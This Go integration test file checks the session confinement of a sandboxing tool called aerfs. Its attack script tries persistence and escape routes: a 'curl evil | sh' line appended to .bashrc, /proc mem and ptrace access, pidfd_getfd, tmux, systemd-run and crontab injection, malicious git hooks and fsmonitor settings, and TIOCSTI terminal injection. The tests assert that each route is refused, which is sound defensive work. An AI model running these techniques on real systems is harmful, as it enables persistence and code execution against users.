package integration

// Confinement of sessions (docs/confinement.md): the workspace belongs to an
// unprivileged owner, the daemon runs as root, and sessions are started by
// the owner with aerfs run. From a confined WEB session, every route to code
// the owner runs later outside sessions is refused; legitimate work in a
// confined USER session is not.

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

const sbOwner = "aerfs-sbx"

// sbEnv is a workspace of an unprivileged owner, mounted by root, with its
// state directory in the owner's home and owned by the owner (the layout a
// rootless `aerfs init` makes).
type sbEnv struct {
	*Env
	uid, gid int
	home     string
}

func newOwnedEnv(t *testing.T, files map[string]string) *sbEnv {
	t.Helper()
	if os.Getuid() != 0 {
		t.Skip("needs root to create the owner")
	}
	u, err := user.Lookup(sbOwner)
	if err != nil {
		if out, err := exec.Command("useradd", "-m", "-s", "/bin/sh", sbOwner).CombinedOutput(); err != nil {
			t.Fatalf("useradd: %v\n%s", err, out)
		}
		if u, err = user.Lookup(sbOwner); err != nil {
			t.Fatal(err)
		}
	}
	uid, _ := strconv.Atoi(u.Uid)
	gid, _ := strconv.Atoi(u.Gid)
	// The owner runs the aerfs binary the harness built.
	os.Chmod(filepath.Dir(aerfsBin), 0o755)
	root, err := os.MkdirTemp(u.HomeDir, "sbx-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	ws := filepath.Join(root, "aerfs-it-ws")
	state := filepath.Join(u.HomeDir, ".local", "state", "aerfs", filepath.Base(root))
	t.Cleanup(func() { os.RemoveAll(state) })
	for rel, content := range files {
		p := filepath.Join(ws, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	os.MkdirAll(ws, 0o755)
	envsMu.Lock()
	envs[ws] = true
	envsMu.Unlock()
	e := &Env{t: t, WS: ws, State: state}
	e.mustAerfs("init", "--state", state, ws)
	for _, p := range []string{filepath.Join(u.HomeDir, ".local"), root} {
		if out, err := exec.Command("chown", "-R", u.Uid+":"+u.Gid, p).CombinedOutput(); err != nil {
			t.Fatalf("chown: %v\n%s", err, out)
		}
	}
	e.Mount()
	return &sbEnv{Env: e, uid: uid, gid: gid, home: u.HomeDir}
}

// ownerEnv is the environment of the owner's login shell.
func (s *sbEnv) ownerEnv() []string {
	return []string{"HOME=" + s.home, "USER=" + sbOwner, "LOGNAME=" + sbOwner, "LANG=C.UTF-8",
		"PATH=/usr/local/go/bin:/usr/local/bin:/usr/bin:/bin", "GOTOOLCHAIN=local", "GOFLAGS=-mod=mod",
		"GIT_AUTHOR_NAME=o", "GIT_AUTHOR_EMAIL=o@example.org", "GIT_COMMITTER_NAME=o", "GIT_COMMITTER_EMAIL=o@example.org",
		"WS=" + s.WS, "STATE=" + s.State}
}

// asOwner runs argv as the owner (outside every session unless argv is an
// aerfs run) in the workspace.
func (s *sbEnv) asOwner(argv ...string) Result {
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	args := append([]string{"--reuid", strconv.Itoa(s.uid), "--regid", strconv.Itoa(s.gid), "--init-groups", "--"}, argv...)
	cmd := exec.CommandContext(ctx, "setpriv", args...)
	cmd.Dir = s.WS
	cmd.Env = s.ownerEnv()
	var o, er bytes.Buffer
	cmd.Stdout, cmd.Stderr = &o, &er
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		code = -1
		er.WriteString(err.Error())
	}
	return Result{o.String(), er.String(), code}
}

// session runs a shell script in a session the owner starts with aerfs
// run; extra flags go before "--".
func (s *sbEnv) session(principal, session, script string, flags ...string) Result {
	args := []string{aerfsBin, "run", "--workspace", s.WS, "--principal", principal, "--session", session}
	args = append(append(append(args, flags...), "--", "sh", "-c"), script)
	return s.asOwner(args...)
}

// startOwnerProcess starts a long-running owner process outside every
// session (the owner's shell, editor or tmux server) and returns its pid.
func (s *sbEnv) startOwnerProcess(t *testing.T) int {
	cmd := exec.Command("setpriv", "--reuid", strconv.Itoa(s.uid), "--regid", strconv.Itoa(s.gid), "--init-groups", "--", "sleep", "120")
	cmd.Dir = "/"
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	time.Sleep(100 * time.Millisecond)
	return cmd.Process.Pid
}

// startSession starts a long-running confined session and returns the pid
// of its command.
func (s *sbEnv) startSession(t *testing.T, principal, session string) int {
	pidFile := filepath.Join(os.TempDir(), "aerfs-sbx-"+session+"-"+strconv.Itoa(os.Getpid())+".pid")
	os.Remove(pidFile)
	t.Cleanup(func() { os.Remove(pidFile) })
	cmd := exec.Command("setpriv", "--reuid", strconv.Itoa(s.uid), "--regid", strconv.Itoa(s.gid), "--init-groups", "--",
		aerfsBin, "run", "--workspace", s.WS, "--principal", principal, "--session", session, "--",
		"sh", "-c", "echo $$ > "+pidFile+" && exec sleep 120")
	cmd.Dir = s.WS
	cmd.Env = s.ownerEnv()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	for i := 0; i < 100; i++ {
		if b, err := os.ReadFile(pidFile); err == nil && len(b) > 1 {
			pid, err := strconv.Atoi(strings.TrimSpace(string(b)))
			if err == nil {
				return pid
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("session %s did not start", session)
	return 0
}

// startOwnerTmux starts the owner's tmux server outside every session, at
// its usual socket under /tmp, and returns the socket path.
func (s *sbEnv) startOwnerTmux(t *testing.T) string {
	if _, err := exec.LookPath("tmux"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("tmux is not installed: CI installs it (.ci/run)")
		}
		t.Skip("tmux is not installed")
	}
	dir := filepath.Join("/tmp", "tmux-"+strconv.Itoa(s.uid))
	sock := filepath.Join(dir, "aerfs-sbx")
	os.Mkdir(dir, 0o700)
	os.Chown(dir, s.uid, s.gid)
	r := s.asOwner("tmux", "-S", sock, "new-session", "-d", "sleep 120")
	if r.Code != 0 {
		t.Fatalf("owner tmux: %s", r)
	}
	t.Cleanup(func() { s.asOwner("tmux", "-S", sock, "kill-server") })
	return sock
}

// attackScript tries each route around the mount and prints one line per
// attempt: "<name> ok" or "<name> <errno name>".
const attackScript = `
try() { name=$1; shift; if err=$("$@" 2>&1); then echo "$name ok"; else echo "$name ${err##*: }"; fi; }
try bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
try state-policy sh -c 'echo "# x" >> "$STATE/aerfs.yaml"'
try state-read cat "$STATE/aerfs.yaml"
/usr/bin/python3 - "$OWNER_PID" <<'PY'
import ctypes, errno, os, sys
pid = int(sys.argv[1])
def report(name, fn):
    try:
        fn(); print(name, "ok")
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, e.errno))
report("proc-mem", lambda: open("/proc/%d/mem" % pid, "r+b").close())
other = int(os.environ.get("OTHER_PID", "0"))
if other:
    report("other-session-mem", lambda: open("/proc/%d/mem" % other, "r+b").close())
libc = ctypes.CDLL(None, use_errno=True)
def getfd():
    pfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pfd < 0:
        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
    fd = libc.syscall(438, pfd, 0, 0)  # pidfd_getfd
    if fd < 0:
        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
report("pidfd-getfd", getfd)
if other:
    pid, owner = other, pid
    report("other-session-getfd", getfd)
    pid = owner
def ptrace():
    if libc.ptrace(16, pid, 0, 0) < 0:  # PTRACE_ATTACH
        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
    libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
report("ptrace", ptrace)
def kill():
    os.kill(pid, 0)
report("signal", kill)
def bind():
    if libc.mount(b"/tmp", os.environ["WS"].encode(), None, 4096, None) < 0:  # MS_BIND
        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
report("bind-over-workspace", bind)
PY
try tmux tmux -S "$TMUX_SOCK" run-shell 'echo pwned > "$HOME/pwned-by-tmux"'
try state-list sh -c 'ls -A "$STATE" | tr "\n" " " | grep -q aerfs.yaml'
try unshare-userns unshare -rm true
try umount-in-userns unshare -rm umount -l "$WS"
try fusermount fusermount -u "$WS"
try systemd-run systemd-run --user --quiet sh -c 'echo pwned > "$HOME/pwned-by-systemd"' 
try crontab sh -c 'echo "* * * * * echo pwned > \$HOME/pwned-by-cron" | crontab -'
`

// parseAttempts reads the lines attackScript prints.
func parseAttempts(out string) map[string]string {
	m := map[string]string{}
	for _, line := range strings.Split(out, "\n") {
		if f := strings.SplitN(strings.TrimSpace(line), " ", 2); len(f) == 2 {
			m[f[0]] = f[1]
		}
	}
	return m
}

func TestSandboxWebRefused(t *testing.T) {
	s := newOwnedEnv(t, map[string]string{"README": "hi\n", "proj/main.c": "int main(){}\n"})
	bashrc := filepath.Join(s.home, ".bashrc")
	before, _ := os.ReadFile(bashrc)
	os.Remove(filepath.Join(s.home, "pwned-by-tmux"))
	policyBefore, _ := os.ReadFile(filepath.Join(s.State, "aerfs.yaml"))
	pid := s.startOwnerProcess(t)
	sock := s.startOwnerTmux(t)
	other := s.startSession(t, "USER", "other")
	r := s.session("WEB", "web1", "OWNER_PID="+strconv.Itoa(pid)+" OTHER_PID="+strconv.Itoa(other)+" TMUX_SOCK="+sock+"; export OWNER_PID OTHER_PID TMUX_SOCK\n"+attackScript)
	got := parseAttempts(r.Stdout)
	t.Logf("confined WEB session:\n%s%s", r.Stdout, r.Stderr)
	want := map[string][]string{
		"bashrc":              {"Permission denied"},
		"state-policy":        {"Permission denied", "Read-only file system", "No such file or directory"},
		"state-read":          {"Permission denied", "No such file or directory"},
		"proc-mem":            {"EACCES", "EPERM"},
		"pidfd-getfd":         {"EPERM"},
		"other-session-mem":   {"EACCES", "EPERM"},
		"other-session-getfd": {"EPERM"},
		"ptrace":              {"EPERM"},
		"signal":              {"EPERM"},
		"unshare-userns":      {"Operation not permitted"},
		"tmux":                {"No such file or directory", "no server running"},
		"umount-in-userns":    {"Operation not permitted"},
	}
	for name, errs := range want {
		ok := false
		for _, e := range errs {
			ok = ok || strings.Contains(got[name], e)
		}
		if !ok {
			t.Errorf("%s from a confined WEB session: got %q, want one of %v", name, got[name], errs)
		}
	}
	if got["state-list"] == "ok" {
		t.Errorf("the state directory's files are visible in a confined session")
	}
	if _, err := os.Stat(filepath.Join(s.home, "pwned-by-tmux")); err == nil {
		t.Errorf("the owner's tmux server ran a command for a confined session")
	}
	if got["systemd-run"] == "ok" {
		t.Errorf("systemd-run --user ran a command for a confined session")
	}
	if got["fusermount"] == "ok" {
		t.Errorf("fusermount -u of the workspace succeeded in a confined session")
	}
	// crontab is setgid crontab: under no_new_privs it runs without the
	// group and cannot write the spool; where cron is installed the
	// owner's crontab stays empty.
	if _, err := exec.LookPath("crontab"); err == nil {
		if got["crontab"] == "ok" {
			t.Errorf("crontab - installed a crontab for a confined session")
		}
		if out, _ := exec.Command("crontab", "-l", "-u", sbOwner).CombinedOutput(); strings.Contains(string(out), "pwned") {
			t.Errorf("the owner's crontab holds the session's line: %s", out)
		}
	} else if os.Getenv("CI") != "" {
		t.Errorf("crontab is not installed: CI installs cron (.ci/run)")
	}
	if after, _ := os.ReadFile(bashrc); !bytes.Equal(before, after) {
		t.Errorf("~/.bashrc changed: %q", after)
	}
	if after, _ := os.ReadFile(filepath.Join(s.State, "aerfs.yaml")); !bytes.Equal(policyBefore, after) {
		t.Errorf("the policy file changed")
	}
	if !s.Mounted() {
		t.Fatalf("the workspace is no longer mounted")
	}
}

func TestSandboxOffUnconfined(t *testing.T) {
	s := newOwnedEnv(t, map[string]string{"README": "hi\n"})
	bashrc := filepath.Join(s.home, ".bashrc")
	before, err := os.ReadFile(bashrc)
	t.Cleanup(func() {
		if err == nil {
			os.WriteFile(bashrc, before, 0o644)
		}
		os.Remove(filepath.Join(s.home, "pwned-by-tmux"))
		exec.Command("crontab", "-r", "-u", sbOwner).Run() // the unconfined session's crontab
	})
	pid := s.startOwnerProcess(t)
	sock := s.startOwnerTmux(t)
	r := s.session("WEB", "web1", "OWNER_PID="+strconv.Itoa(pid)+" TMUX_SOCK="+sock+"; export OWNER_PID TMUX_SOCK\necho \"sandbox=$AERFS_SANDBOX\"\n"+attackScript, "--sandbox=off")
	got := parseAttempts(r.Stdout)
	t.Logf("unconfined WEB session:\n%s%s", r.Stdout, r.Stderr)
	for _, name := range []string{"bashrc", "proc-mem", "pidfd-getfd", "signal", "unshare-userns", "tmux"} {
		if got[name] != "ok" {
			t.Errorf("%s with --sandbox=off: got %q, want ok (the route the confinement closes)", name, got[name])
		}
	}
	// The state directory is the root daemon's whether the session is
	// confined or not (TestStateDirRootOwned).
	for _, name := range []string{"state-policy", "state-list"} {
		if !strings.Contains(got[name], "Permission denied") {
			t.Errorf("%s with --sandbox=off: got %q, want Permission denied (the state directory is the daemon's)", name, got[name])
		}
	}
	if got["sandbox=off"] != "" || !strings.Contains(r.Stdout, "sandbox=off") {
		t.Errorf("AERFS_SANDBOX not off: %q", r.Stdout)
	}
	// The session start records that it runs unconfined.
	found := false
	for _, le := range s.Log() {
		if le.Record.Type == "session_start" && le.Record.Meta.Session == "web1" && le.Record.Payload != nil {
			found = le.Record.Payload.Detail == "sandbox: off"
		}
	}
	if !found {
		t.Errorf("no session start of web1 recording sandbox: off")
	}
}

// The owner's own later tools: a WEB session may not plant code in .git.
func TestSandboxWebGitControl(t *testing.T) {
	s := newOwnedEnv(t, map[string]string{"README": "hi\n", "proj/main.c": "int main(){}\n"})
	expectOK(t, "owner git init", s.asOwner("git", "init", "-q", "."))
	r := s.session("WEB", "web1", `git config core.fsmonitor "touch /tmp/aerfs-sbx-pwned"`)
	if r.Code == 0 {
		t.Errorf("WEB set core.fsmonitor: %s", r)
	}
	if cfg := s.Read(".git/config"); strings.Contains(cfg, "fsmonitor") {
		t.Errorf(".git/config has the fsmonitor: %s", cfg)
	}
	r2 := s.session("WEB", "web1", `mkdir -p proj/evil/hooks && printf '#!/bin/sh\ntouch /tmp/aerfs-sbx-pwned\n' > proj/evil/hooks/post-checkout && ln -s evil proj/.git`)
	if r2.Code == 0 || !strings.Contains(r2.Stderr, "Permission denied") {
		t.Errorf("WEB created proj/.git as a symlink: %s", r2)
	}
	if _, err := os.Lstat(filepath.Join(s.WS, "proj/.git")); err == nil {
		t.Errorf("proj/.git exists")
	}
	r3 := s.session("WEB", "web1", `mkdir proj/.git`)
	if r3.Code == 0 {
		t.Errorf("WEB created proj/.git as a directory: %s", r3)
	}
	li := s.index()
	if d := li.denials("web1", ".git/config"); !hasRule(d, "R3-principal") {
		t.Errorf("no R3-principal denial of .git/config:%s", describe(li.denials("web1")))
	}
	if d := li.denials("web1", "proj/.git"); !hasRule(d, "R3-principal") || len(d) < 2 {
		t.Errorf("want R3-principal denials of proj/.git (symlink and mkdir):%s", describe(li.denials("web1")))
	}
}

// toolMissing skips what needs an absent tool, except under CI (CI=true),
// where a missing tool fails the test: the work it shows must be shown.
func toolMissing(t *testing.T, tool string) {
	t.Helper()
	if os.Getenv("CI") == "true" {
		t.Errorf("%s is not installed (CI=true: a legitimate-work check cannot be skipped)", tool)
		return
	}
	t.Logf("%s is not installed: its check is skipped", tool)
}

func TestSandboxUserWork(t *testing.T) {
	for _, tool := range []string{"git", "go"} {
		if _, err := exec.LookPath(tool); err != nil {
			if _, err := os.Stat("/usr/local/go/bin/" + tool); err != nil {
				toolMissing(t, tool)
				t.SkipNow()
			}
		}
	}
	s := newOwnedEnv(t, map[string]string{"README": "hi\n",
		"hello/go.mod":  "module example.org/hello\n\ngo 1.21\n",
		"hello/main.go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello\") }\n"})
	os.RemoveAll(filepath.Join(s.home, ".cache"))
	r := s.session("USER", "u1", `set -e
echo "sandbox=$AERFS_SANDBOX"
git init -q . && git add README && git commit -qm first && git log --oneline | wc -l
echo scratch > /tmp/aerfs-sbx-scratch.$$ && rm /tmp/aerfs-sbx-scratch.$$
cd hello && go build -o hello . && ./hello && echo "gocache $(go env GOCACHE)" && cd ..
`)
	if exec.Command("npm", "--version").Run() != nil {
		toolMissing(t, "npm")
	} else if r.Code == 0 {
		// npm install of a small package from a local tarball, its cache
		// the session's own.
		r2 := s.session("USER", "u1", `set -e
mkdir -p pkgsrc && cd pkgsrc && printf '{"name":"tiny","version":"1.0.0","main":"index.js"}' > package.json && echo 'module.exports = 42' > index.js && npm pack --silent >/dev/null && cd ..
mkdir -p app && cd app && printf '{"name":"app","version":"1.0.0"}' > package.json
npm install --offline --no-audit --no-fund --silent ../pkgsrc/tiny-1.0.0.tgz && node -e 'console.log("tiny=" + require("tiny"))'
`)
		if r2.Code != 0 || !strings.Contains(r2.Stdout, "tiny=42") {
			t.Errorf("npm install from a local tarball in a confined USER session: %s", r2)
		}
	}
	if r.Code != 0 || !strings.Contains(r.Stdout, "hello") {
		t.Fatalf("legitimate work in a confined USER session: %s", r)
	}
	if !strings.Contains(r.Stdout, "sandbox=landlock abi") {
		t.Errorf("the session was not confined: %s", r.Stdout)
	}
	// The build cache is the session's own, not the owner's.
	if gc := parseAttempts(r.Stdout)["gocache"]; !strings.HasPrefix(gc, "/tmp/aerfs-cache-") {
		t.Errorf("the go build cache of a confined session is %q, want its own", gc)
	}
	if exec.Command("/usr/bin/python3", "-c", "import venv, ensurepip").Run() != nil {
		toolMissing(t, "python3 venv/ensurepip")
		return
	}
	r = s.session("USER", "u1", `/usr/bin/python3 -m venv venv && ./venv/bin/python -c 'print("venv ok")'`)
	if r.Code != 0 || !strings.Contains(r.Stdout, "venv ok") {
		t.Fatalf("python3 -m venv in a confined USER session: %s", r)
	}
}

// A session's /tmp is its own (sandbox.private_tmp, on by default), and a
// workspace beneath /tmp stays where it is; with private_tmp: false it
// shares the owner's.
func TestSandboxPrivateTmp(t *testing.T) {
	root, err := os.MkdirTemp("/tmp", "aerfs-it-ptmp-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	t.Setenv("TMPDIR", root) // the workspace too
	e := newEnv(t, map[string]string{"README": "hi\n"})
	e.Mount()
	outside := filepath.Join(root, "outside")
	os.WriteFile(outside, []byte("owner\n"), 0o644)
	r := e.Sh("USER", "p1", "cat README && echo $AERFS_SANDBOX && echo mine > /tmp/aerfs-sbx-private && cat /tmp/aerfs-sbx-private && ! test -e "+outside)
	if r.Code != 0 || !strings.Contains(r.Stdout, "hi") || !strings.Contains(r.Stdout, "mine") || !strings.Contains(r.Stdout, "private /tmp") {
		t.Fatalf("session with a private /tmp: %s", r)
	}
	if _, err := os.Stat("/tmp/aerfs-sbx-private"); err == nil {
		os.Remove("/tmp/aerfs-sbx-private")
		t.Errorf("the session's /tmp file is visible outside it")
	}
	e.Unmount()
	pol := filepath.Join(e.State, "aerfs.yaml")
	b, err := os.ReadFile(pol)
	if err != nil {
		t.Fatal(err)
	}
	b = []byte(strings.Replace(string(b), "\n  private_tmp: true\n", "\n  private_tmp: false\n", 1))
	if err := os.WriteFile(pol, b, 0o600); err != nil {
		t.Fatal(err)
	}
	e.Mount()
	r = e.Sh("USER", "p2", "cat "+outside)
	if r.Code != 0 || !strings.Contains(r.Stdout, "owner") || strings.Contains(r.Stdout, "private /tmp") {
		t.Fatalf("session with private_tmp: false: %s", r)
	}
}

// A session started from the owner's terminal shares it: TIOCSTI would type
// a command into the owner's shell once the session ends.
func TestSandboxTIOCSTI(t *testing.T) {
	if _, err := exec.LookPath("script"); err != nil {
		t.Skip("script (util-linux) is not installed")
	}
	legacy := true
	if b, err := os.ReadFile("/proc/sys/dev/tty/legacy_tiocsti"); err == nil && strings.TrimSpace(string(b)) == "0" {
		t.Log("the kernel refuses TIOCSTI already (dev.tty.legacy_tiocsti=0)")
		legacy = false
	}
	s := newOwnedEnv(t, map[string]string{"README": "hi\n"})
	py := `import fcntl, termios, errno
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"#")
    print("tiocsti ok")
except OSError as e:
    print("tiocsti", errno.errorcode[e.errno])
try:
    fcntl.ioctl(0, 0x541C, b"\x0b")  # TIOCLINUX, TIOCL_GETKMSGREDIRECT
    print("tioclinux ok")
except OSError as e:
    print("tioclinux", errno.errorcode[e.errno])`
	for _, mode := range []string{"on", "off"} {
		line := aerfsBin + " run --workspace " + s.WS + " --principal WEB --session tty-" + mode + " --sandbox=" + mode + " -- /usr/bin/python3 -c '" + py + "'"
		r := s.asOwner("script", "-qec", line, "/dev/null")
		t.Logf("--sandbox=%s: %s", mode, strings.TrimSpace(r.Stdout))
		if mode == "on" && !strings.Contains(r.Stdout, "tiocsti EPERM") {
			t.Errorf("TIOCSTI from a confined session: %s", r)
		}
		// The kernel refuses TIOCLINUX on a terminal that is not the
		// caller's own with EPERM too: here it is the caller's.
		if on := strings.Contains(r.Stdout, "tioclinux EPERM"); on != (mode == "on") {
			t.Errorf("TIOCLINUX from a session with --sandbox=%s: %s", mode, r)
		}
		if mode == "off" && legacy && !strings.Contains(r.Stdout, "tiocsti ok") {
			t.Errorf("TIOCSTI from an unconfined session: %s", r)
		}
	}
}

// The outer aerfs run waits for the session's command in its namespaces:
// killing it kills the command, as when both were one process.
func TestSandboxKillRun(t *testing.T) {
	s := newOwnedEnv(t, map[string]string{"README": "hi\n"})
	pidFile := filepath.Join(os.TempDir(), "aerfs-sbx-kill-"+strconv.Itoa(os.Getpid())+".pid")
	os.Remove(pidFile)
	t.Cleanup(func() { os.Remove(pidFile) })
	cmd := exec.Command("setpriv", "--reuid", strconv.Itoa(s.uid), "--regid", strconv.Itoa(s.gid), "--init-groups", "--",
		aerfsBin, "run", "--workspace", s.WS, "--principal", "WEB", "--session", "k", "--", "sh", "-c", "echo $$ > "+pidFile+" && exec sleep 120")
	cmd.Dir = s.WS
	cmd.Env = s.ownerEnv()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	pid := 0
	for i := 0; i < 100 && pid == 0; i++ {
		if b, err := os.ReadFile(pidFile); err == nil {
			pid, _ = strconv.Atoi(strings.TrimSpace(string(b)))
		}
		time.Sleep(50 * time.Millisecond)
	}
	if pid == 0 {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatal("the session did not start")
	}
	cmd.Process.Kill()
	cmd.Wait()
	for i := 0; i < 40; i++ {
		// Gone, or dead and not yet reaped (a zombie waits for whoever
		// inherited it, which on a busy machine takes its time).
		b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
		if err != nil {
			return
		}
		if f := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+1:])); len(f) > 0 && (f[0] == "Z" || f[0] == "X") {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	exec.Command("kill", "-9", strconv.Itoa(pid)).Run()
	t.Errorf("the session's command %d outlived its aerfs run", pid)
}

// A confined session has an IPC namespace of its own: the owner's System V
// message queues, semaphores and shared memory, which neither Landlock nor
// the daemon decides, are out of its reach (a service of the owner that
// takes commands from a queue would otherwise run them as the owner).
func TestSandboxOwnIPCNamespace(t *testing.T) {
	s := newOwnedEnv(t, map[string]string{"README": "hi\n"})
	key := 0x5a5a0000 + os.Getpid()%0xffff
	mk := `import ctypes,sys
libc=ctypes.CDLL(None,use_errno=True)
print(libc.msgget(int(sys.argv[1]),int(sys.argv[2],8)), ctypes.get_errno())`
	r := s.asOwner("/usr/bin/python3", "-c", mk, strconv.Itoa(key), "1600")
	if f := strings.Fields(r.Stdout); len(f) < 1 || f[0] == "-1" {
		t.Fatalf("the owner's queue was not made: %s", r)
	}
	t.Cleanup(func() {
		s.asOwner("/usr/bin/python3", "-c", `import ctypes,sys
l=ctypes.CDLL(None); q=l.msgget(int(sys.argv[1]),0)
q>=0 and l.msgctl(q,0,None)`, strconv.Itoa(key))
	})
	host, _ := os.Readlink("/proc/self/ns/ipc")
	line := aerfsBin + " run --workspace " + s.WS + " --principal WEB --session ipc -- /usr/bin/python3 -c '" + mk + "' " + strconv.Itoa(key) + " 0; readlink /proc/self/ns/ipc"
	r = s.asOwner("sh", "-c", line)
	out := strings.Fields(r.Stdout)
	if len(out) < 2 || out[0] != "-1" {
		t.Errorf("a confined session reached the owner's message queue: %s", r)
	}
	r = s.asOwner("sh", "-c", aerfsBin+" run --workspace "+s.WS+" --principal WEB --session ipc2 -- readlink /proc/self/ns/ipc")
	if got := strings.TrimSpace(r.Stdout); got == "" || got == host {
		t.Errorf("a confined session's IPC namespace %q, the host's %q: %s", got, host, r)
	}
}

// POSIX shared memory is the session's own: what a confined session leaves
// in /dev/shm (shm_open's files) the owner's processes never see, and the
// owner's segments are not the session's to read.
func TestSandboxOwnDevShm(t *testing.T) {
	s := newOwnedEnv(t, map[string]string{"README": "hi\n"})
	mine := "/dev/shm/aerfs-owner-" + strconv.Itoa(os.Getpid())
	theirs := "/dev/shm/aerfs-session-" + strconv.Itoa(os.Getpid())
	if err := os.WriteFile(mine, []byte("OWNER-SHM-CONTENT\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(mine); os.Remove(theirs) })
	r := s.asOwner("sh", "-c", aerfsBin+" run --workspace "+s.WS+" --principal WEB --session shm -- sh -c 'echo poison > "+theirs+"; cat "+mine+" 2>&1; echo done'")
	if !strings.Contains(r.Stdout, "done") {
		t.Fatalf("the session did not run: %s", r)
	}
	if strings.Contains(r.Stdout, "OWNER-SHM-CONTENT") {
		t.Errorf("a confined session read the owner's /dev/shm: %s", r)
	}
	if _, err := os.Stat(theirs); err == nil {
		t.Errorf("a confined session's /dev/shm file reached the owner's /dev/shm")
	}
}
